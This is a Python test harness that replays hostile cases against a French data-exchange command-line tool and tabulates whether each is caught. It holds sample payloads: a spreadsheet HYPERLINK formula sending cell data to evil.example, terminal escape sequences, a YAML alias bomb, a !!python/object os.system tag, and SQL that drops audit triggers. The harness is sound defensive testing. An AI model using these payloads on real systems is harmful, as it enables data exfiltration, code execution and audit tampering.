"""Play every hostile case of issue 13 against today's tool; print what each one got.

    python tools/hostile_cases.py          # a Markdown table: case, exit code, first line,
                                           # whether the workspace changed, seconds

Each case starts from a copy of one rehearsal workspace (the demo's, dated 2025-06-02), plays
what a hostile member, a hostile file or an edit behind the tool's back would do, then runs the
command that must catch it. "A modified copy" is this process with one of the tool's checks
patched out, signing with the member's own key, as a member editing their copy would. The
"unchanged" column compares the database and the key directory before and after the command
that catches it. The tests (tests/test_hostile_*.py, test_clock.py, test_convention.py…) assert
the same; this is the table for a reader.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import sqlite3
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

from click.testing import CliRunner

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from ctg_exchange.cli.app import cli  # noqa: E402

PASSPHRASE = "demo-passphrase-not-secret"  # noqa: S105 (the demo's, printed by the demo)
DAY = "2025-06-02"
REQUEST = (
    "request", "new", "--to", "caf92", "--field", "petite_enfance",
    "--purpose", "Tarifer les crèches (demande synthétique)", "--purpose-kind", "pricing",
    "--category", "numero_allocataire", "--category", "quotient_familial",
    "--subjects", "Familles fictives", "--legal-basis", "art6_1_e",
    "--legal-ref", "loi_98_657_art147", "--legal-text", "Texte de référence fictif",
    "--retention-days", "365", "--frequency", "monthly", "--combines-with-own-files",
)  # fmt: skip


@dataclass
class Outcome:
    case: str
    code: int
    line: str
    unchanged: bool
    seconds: float


class Place:
    """One copy of the rehearsal workspace."""

    def __init__(self, base: Path, root: Path) -> None:
        shutil.copytree(base, root)
        self.root = root
        self.env = {
            "CTG_WORKSPACE": str(root),
            "CTG_KEY_DIR": str(root / "keys"),
            "CTG_PASSPHRASE": PASSPHRASE,
            "CTG_IDENTITY_PASSPHRASE": PASSPHRASE,
            "CTG_TODAY": DAY,
            "COLUMNS": "200",
        }

    def run(self, *args: str, as_: str | None = None, **env: str) -> Any:
        argv = (["--as", as_] if as_ else []) + list(args)
        return CliRunner().invoke(cli, argv, env={**self.env, **env}, catch_exceptions=False)

    def ok(self, *args: str, as_: str | None = None, **env: str) -> Any:
        result = self.run(*args, as_=as_, **env)
        if result.exit_code != 0:
            raise SystemExit(f"setup step failed: {args}: {result.output}")
        return result

    def filed(self, *extra: str, as_: str = "v.agent", **env: str) -> str:
        return str(json.loads(self.ok(*REQUEST, *extra, "--json", as_=as_, **env).stdout)["id"])

    def advance(self, rid: str, steps: int) -> None:
        for args, member in [
            (("study", "accept", rid, "--note", "Étude"), "c.analyst"),
            (("study", "submit", rid), "c.analyst"),
            (("dpo", "opinion", rid, "--verdict", "favourable", "--note", "Avis"), "c.dpo"),
            (("decide", "approve", rid), "c.controller"),
        ][:steps]:
            self.ok(*args, as_=member)

    def sql(self, *statements: str) -> None:
        """Edit the database behind the tool's back (dropping a guard trigger if need be)."""
        db = sqlite3.connect(self.root / "ctg.sqlite3")
        try:
            for statement in statements:
                db.execute(statement)
            db.commit()
        finally:
            db.close()

    def digest(self) -> str:
        h = hashlib.sha256()
        for path in sorted(self.root.rglob("*")):
            if path.is_file() and not path.name.endswith(".lock"):
                h.update(str(path.relative_to(self.root)).encode() + path.read_bytes())
        return h.hexdigest()


def modified(target: Any, name: str, value: Any) -> AbstractContextManager[Any]:
    return mock.patch.object(target, name, value)


def _no_blocking(*args: Any) -> Any:
    from ctg_exchange.policy.screening import Screening, screen

    found = screen(*args)
    kept = tuple(f for f in found.findings if f.severity != "blocking")
    return Screening(kept, found.triage, found.dpia_required, found.dpia_criteria)


def _anyone(action: Any, member: Any, request: Any) -> Any:
    from ctg_exchange.domain.rules import ACTION_ROLE

    return ACTION_ROLE[action]


@contextmanager
def _anyone_may() -> Iterator[None]:
    """Every member may take every step, in the role the step needs."""
    from ctg_exchange.services import requests, review

    with modified(requests, "authorise", _anyone), modified(review, "authorise", _anyone):
        yield


def _laughs(levels: int) -> str:
    lines = ['l0: &l0 "lol"']
    lines += [f"l{n}: &l{n} [{', '.join([f'*l{n - 1}'] * 10)}]" for n in range(1, levels + 1)]
    return "\n".join(lines) + f"\ncategories: *l{levels}\n"


Case = Callable[[Place], tuple[tuple[str, ...], dict[str, Any]]]
CASES: dict[str, Case] = {}


def case(name: str) -> Callable[[Case], Case]:
    def register(play: Case) -> Case:
        CASES[name] = play
        return play

    return register


VERIFY: tuple[tuple[str, ...], dict[str, Any]] = (("audit", "verify"), {})


def _screening_patched(place: Place, *extra: str, **env: str) -> None:
    from ctg_exchange.services import requests

    with modified(requests, "screen", _no_blocking):
        place.filed(*extra, **env)


@case("modified copy files the NIR")
def _nir(place: Place) -> Any:
    _screening_patched(place, "--category", "nir")
    return VERIFY


@case("modified copy files offence data")
def _offence(place: Place) -> Any:
    _screening_patched(place, "--category", "infractions_fraude")
    return VERIFY


@case("modified copy files a 3,650-day retention")
def _retention(place: Place) -> Any:
    from ctg_exchange.services import requests

    args = list(REQUEST)
    args[args.index("--retention-days") + 1] = "3650"
    with modified(requests, "screen", _no_blocking):
        place.ok(*args, as_="v.agent")
    return VERIFY


@case("modified copy files under the expired convention")
def _expired(place: Place) -> Any:
    _screening_patched(place, CTG_TODAY="2026-02-02")
    return VERIFY


@case("…then amends it honestly")
def _amended(place: Place) -> Any:
    from ctg_exchange.services import requests

    with modified(requests, "screen", _no_blocking):
        rid = place.filed("--category", "nir")
    place.ok("request", "amend", rid, "--category", "numero_allocataire", as_="v.agent")
    return VERIFY


@case("modified copy: a staff member approves")
def _staff_approves(place: Place) -> Any:
    rid = place.filed()
    place.advance(rid, 3)
    with _anyone_may():
        place.ok("decide", "approve", rid, as_="c.agent")
    return VERIFY


@case("modified copy: the requester's DPO gives the opinion")
def _requester_dpo(place: Place) -> Any:
    rid = place.filed()
    place.advance(rid, 2)
    with _anyone_may():
        place.ok("dpo", "opinion", rid, "--verdict", "favourable", "--note", "A", as_="v.dpo")
    return VERIFY


@case("modified copy: one person studies and decides")
def _one_person(place: Place) -> Any:
    from ctg_exchange.services import requests

    rid = place.filed()
    with modified(requests, "separate_duties", lambda *args: None):
        place.ok("study", "accept", rid, "--note", "Étude", as_="c.controller")
        place.ok("study", "submit", rid, as_="c.controller")
        place.ok("dpo", "opinion", rid, "--verdict", "favourable", "--note", "A", as_="c.dpo")
        place.ok("decide", "approve", rid, as_="c.controller")
    return VERIFY


@case("modified copy: a renewal in effect without the Caf")
def _renewal_alone(place: Place) -> Any:
    from ctg_exchange.services.workspace import Workspace

    later = "2026-02-02"
    with modified(Workspace, "rules", property(lambda self: 1)):
        place.ok("convention", "renew", "--until", "2029-12-31", "--reference", "R",
                 as_="v.admin", CTG_TODAY=later)  # fmt: skip
    place.filed(CTG_TODAY=later)
    return VERIFY


@case("modified copy: the town hall countersigns its own renewal")
def _own_countersign(place: Place) -> Any:
    from ctg_exchange.services import convention

    place.ok("convention", "renew", "--until", "2029-12-31", "--reference", "R", as_="v.admin")
    seq = json.loads(place.ok("convention", "show", "--json").stdout)["pending"]
    with modified(convention, "ensure_countersigner", lambda *args: None):
        place.ok("convention", "countersign", str(seq), "--reference", "R", as_="v.admin")
    return VERIFY


@case("modified copy lapses open requests while the convention runs")
def _lapse_in_force(place: Place) -> Any:
    from ctg_exchange.policy.convention import ConventionState

    place.filed()
    with modified(ConventionState, "why_not_in_force", lambda self, day: "ended (forged)"):
        place.ok("convention", "lapse", as_="v.admin")
    return VERIFY


@case("successor convention by one party, then a filing after the end")
def _pending_successor(place: Place) -> Any:
    place.ok("convention", "successor", "--start", "2026-02-02", "--end", "2030-12-31",
             "--reference", "R", "--deliberation", "D", as_="v.admin",
             CTG_TODAY="2026-02-02")  # fmt: skip
    return REQUEST, {"as_": "v.agent", "CTG_TODAY": "2026-02-02"}


@case("a renewal after the end (rules 3: a successor convention instead)")
def _renewal_after_end(place: Place) -> Any:
    return ("convention", "renew", "--until", "2029-12-31", "--reference", "R"), {
        "as_": "v.admin", "CTG_TODAY": "2026-02-02"
    }  # fmt: skip


@case("modified copy: a renewal signed after the end")
def _renewal_after_end_forged(place: Place) -> Any:
    from ctg_exchange.policy.convention import ConventionState

    with modified(ConventionState, "renewal_too_late", lambda *args: None):
        place.ok("convention", "renew", "--until", "2029-12-31", "--reference", "R",
                 as_="v.admin", CTG_TODAY="2026-02-02")  # fmt: skip
    return VERIFY


@case("the town hall terminates at once (Article 12: the Caf's alone)")
def _termination_by_the_town_hall(place: Place) -> Any:
    return ("convention", "terminate", "--case", "modification_without_avenant", "--on", DAY,
            "--reason", "R"), {"as_": "v.admin"}  # fmt: skip


@case("modified copy: a dénonciation without its six months")
def _short_denunciation(place: Place) -> Any:
    from ctg_exchange.services import termination

    with modified(termination, "why_not_terminated", lambda *args: None):
        place.ok("convention", "terminate", "--case", "denunciation", "--notice-date", DAY,
                 "--on", "2025-07-01", "--reason", "R", as_="v.admin")  # fmt: skip
    return VERIFY


@case("a dénonciation with effect after the convention's end (it would block the Caf's)")
def _denunciation_past_the_end(place: Place) -> Any:
    return ("convention", "terminate", "--case", "denunciation", "--notice-date", "2025-06-01",
            "--on", "2035-01-01", "--reason", "R"), {"as_": "v.admin"}  # fmt: skip


@case("modified copy: a termination backdated to 2023")
def _backdated_termination(place: Place) -> Any:
    from ctg_exchange.services import termination

    with modified(termination, "why_not_terminated", lambda *args: None):
        place.ok("convention", "terminate", "--case", "modification_without_avenant",
                 "--on", "2023-01-01", "--reason", "R", as_="c.admin")  # fmt: skip
    return VERIFY


@case("modified copy: a request of the old convention approved under its successor")
def _approved_under_the_successor(place: Place) -> Any:
    from ctg_exchange.policy.convention import ConventionState
    from ctg_exchange.services import convention

    rid = place.filed()
    place.advance(rid, 3)
    later = "2026-02-02"
    place.ok("convention", "successor", "--start", later, "--end", "2030-12-31",
             "--reference", "R", "--deliberation", "D", as_="v.admin", CTG_TODAY=later)  # fmt: skip
    seq = json.loads(place.ok("convention", "show", "--json").stdout)["pending"]
    with (
        modified(convention, "_take_effect_renewal", lambda *args: []),
        modified(ConventionState, "ensure_same_period", lambda *args: None),
    ):
        place.ok("convention", "countersign", str(seq), "--reference", "R", as_="c.admin",
                 CTG_TODAY=later)  # fmt: skip
        place.ok("decide", "approve", rid, as_="c.controller", CTG_TODAY=later)
    return VERIFY


@case("modified copy dates its event a month ahead")
def _future(place: Place) -> Any:
    from datetime import UTC, datetime, timedelta

    from ctg_exchange.audit.events import utc_timestamp
    from ctg_exchange.services.clock import Clock

    _real_workspace(place)  # a rehearsal's dates may run ahead by design
    ahead = utc_timestamp(datetime.now(UTC) + timedelta(days=30))
    with modified(Clock, "now", lambda self: ahead):
        place.ok("convention", "successor", "--start", "2099-01-01", "--end", "2099-12-31",
                 "--reference", "R", "--deliberation", "D", as_="v.admin")  # fmt: skip
    return VERIFY


@case("CTG_TODAY in an ordinary workspace")
def _override(place: Place) -> Any:
    _real_workspace(place)
    return ("member", "list"), {"CTG_TODAY": "2025-12-31"}


def _real_workspace(place: Place) -> None:
    """Replace the copy with an ordinary workspace (real clock), its admin's key beside it."""
    shutil.rmtree(place.root)
    keys = place.root.with_name(place.root.name + "-keys")
    place.env = {**place.env, "CTG_KEY_DIR": str(keys)}
    del place.env["CTG_TODAY"]
    place.ok("keys", "generate", "--member", "v.admin")
    place.ok("init", "--admin", "v.admin", "--admin-name", "Admin (fictif)",
             "--admin-party", "ville_sceaux")  # fmt: skip


@case("member add: dpo and controller together")
def _dpo_conflict(place: Place) -> Any:
    place.ok("keys", "generate", "--member", "v.both")
    args = ("member", "add", "v.both", "--name", "Double (fictif)", "--party", "ville_sceaux",
            "--role", "dpo", "--role", "controller")  # fmt: skip
    return args, {"as_": "v.admin"}


ESCAPES = "a purpose with escape sequences"


@case(f"{ESCAPES}, shown by request show")
def _escapes(place: Place) -> Any:
    args = list(REQUEST)
    args[args.index("--purpose") + 1] = "Tarifer \x1b[2J\x1b[H\x1b]8;;http://evil.example/\x1b\\x"
    rid = json.loads(place.ok(*args, "--json", as_="v.agent").stdout)["id"]
    return ("request", "show", rid), {}


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@case("a purpose that is a formula, in the register's CSV and XLSX")
def _formula(place: Place) -> Any:
    args = list(REQUEST)
    args[args.index("--purpose") + 1] = FORMULA
    rid = json.loads(place.ok(*args, "--json", as_="v.agent").stdout)["id"]
    place.advance(rid, 4)
    place.ok(
        "conditions",
        "accept",
        rid,
        "--dpia-ref",
        "AIPD-1",
        "--information",
        "Lettre aux familles (test)",
        "--l311-mention",
        "Mention sur la facture (test)",
        as_="v.controller",
    )
    out = place.root.with_name(place.root.name + "-register")
    return ("register", "export", "--format", "csv", "--out", f"{out}.csv"), {"as_": "v.dpo"}


def _formula_cells(place: Place) -> str:
    """How the formula reads back: the CSV cell, and the XLSX cell's type through openpyxl."""
    from openpyxl import load_workbook

    out = place.root.with_name(place.root.name + "-register")
    place.ok("register", "export", "--format", "xlsx", "--out", f"{out}.xlsx", as_="v.dpo")
    csv_cell = next(c for c in _csv_cells(Path(f"{out}.csv")) if "HYPERLINK" in c)
    cells = [c for row in load_workbook(f"{out}.xlsx").worksheets[0].iter_rows() for c in row]
    xlsx = next(c for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value)
    value = str(xlsx.value)
    return f"CSV cell {csv_cell[:14]}…; XLSX cell type {xlsx.data_type!r}, value {value[:12]}…"


def _csv_cells(path: Path) -> list[str]:
    import csv

    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=";") for cell in row]


@case("a new workspace's permissions")
def _permissions(place: Place) -> Any:
    _real_workspace(place)
    return ("member", "list"), {}


def _modes(place: Place) -> str:
    directory, db = place.root.stat().st_mode, (place.root / "ctg.sqlite3").stat().st_mode
    return f"directory {directory & 0o777:o}, database {db & 0o777:o}"


@case("an event payload that is no longer JSON")
def _payload(place: Place) -> Any:
    place.sql(
        "DROP TRIGGER audit_events_no_update",
        "UPDATE audit_events SET payload = '{not json' WHERE seq = 5",
    )
    return VERIFY


@case("a request row edited into what the model refuses")
def _request_row(place: Place) -> Any:
    place.sql("UPDATE requests SET doc = replace(doc, '\"status\":', '\"statut\":')")
    return ("request", "list"), {}


@case("every checkpoint deleted, after an audit bundle")
def _checkpoints(place: Place) -> Any:
    out = place.root.with_name(place.root.name + "-bundle")
    place.ok("register", "export", "--audit-bundle", str(out), as_="v.dpo")
    place.sql(
        "DROP TRIGGER checkpoint_signatures_no_delete",
        "DROP TRIGGER checkpoints_no_delete",
        "DELETE FROM checkpoint_signatures",
        "DELETE FROM checkpoints",
    )
    return VERIFY


@case("a filed content deleted")
def _content(place: Place) -> Any:
    place.sql("DELETE FROM request_contents")
    return VERIFY


def _file_case(text: str) -> Case:
    def play(place: Place) -> Any:
        path = place.root.with_name(place.root.name + ".yaml")
        path.write_text(text, encoding="utf-8")
        return ("request", "check", "--from-file", str(path)), {}

    return play


CASES["request file: 7-level YAML aliases"] = _file_case(_laughs(7))
CASES["request file: !!python/object tag"] = _file_case(
    "to: caf92\npurpose: !!python/object/apply:os.system [echo]\n"
)
CASES["request file: 40 levels deep"] = _file_case("categories:" + " [" * 40 + " x" + " ]" * 40)
CASES["request file: retention_days: true"] = _file_case(
    "to: caf92\nfield: petite_enfance\npurpose: x\npurpose_kind: pricing\ncategories: "
    "[quotient_familial]\nsubjects: x\nlegal_basis: art6_1_e\nlegal_text: x\n"
    "retention_days: true\nfrequency: monthly\n"
)


@case("a blank legal_text")
def _blank_legal(place: Place) -> Any:
    args = list(REQUEST)
    args[args.index("--legal-text") + 1] = " "
    return tuple(args), {"as_": "v.agent"}


@case("a 100 KB request id")
def _long_id(place: Place) -> Any:
    return ("request", "show", "DX-" + "9" * 100_000), {}


READ_BACK = {
    "a purpose that is a formula, in the register's CSV and XLSX": _formula_cells,
    "a new workspace's permissions": _modes,
}


@contextmanager
def _timed() -> Iterator[list[float]]:
    spent: list[float] = []
    start = time.perf_counter()
    yield spent
    spent.append(time.perf_counter() - start)


def play(base: Path, scratch: Path, name: str, step: Case) -> Outcome:
    place = Place(base, scratch / f"case{len(os.listdir(scratch))}")
    args, options = step(place)
    options = dict(options)
    member = options.pop("as_", None)
    before = place.digest()
    with _timed() as spent:
        result = place.run(*args, as_=member, **options)
    unchanged = place.digest() == before
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    first = lines[0] if lines else result.stdout.splitlines()[0] if result.stdout else ""
    if name in READ_BACK:
        first = READ_BACK[name](place)
    if ESCAPES in name:  # what the reader's terminal receives
        shown = [line.strip() for line in result.stdout.splitlines() if "Tarifer" in line]
        first = "raw ESC reached the terminal" if "\x1b" in result.output else shown[0]
    return Outcome(name, result.exit_code, first, unchanged, spent[0])


def main() -> None:
    with tempfile.TemporaryDirectory(prefix="ctg-hostile-") as tmp:
        scratch = Path(tmp)
        base = scratch / "base"
        demo = CliRunner().invoke(
            cli, ["demo", "--dir", str(base)], env={"CTG_TODAY": DAY}, catch_exceptions=False
        )
        if demo.exit_code != 0:
            raise SystemExit(demo.output)
        cases = scratch / "cases"
        cases.mkdir()
        outcomes = [play(base, cases, name, step) for name, step in CASES.items()]
    print("| case | exit | first line | unchanged | s |")
    print("|---|---|---|---|---|")
    for o in outcomes:
        line = o.line.replace("|", "\\|").replace("ctg-exchange: error: ", "")
        line = line.replace(str(cases) + "/", "")
        line = line if len(line) <= 150 else line[:149] + "…"
        print(f"| {o.case} | {o.code} | {line} | {'yes' if o.unchanged else 'NO'} | "
              f"{o.seconds:.2f} |")  # fmt: skip


if __name__ == "__main__":
    main()
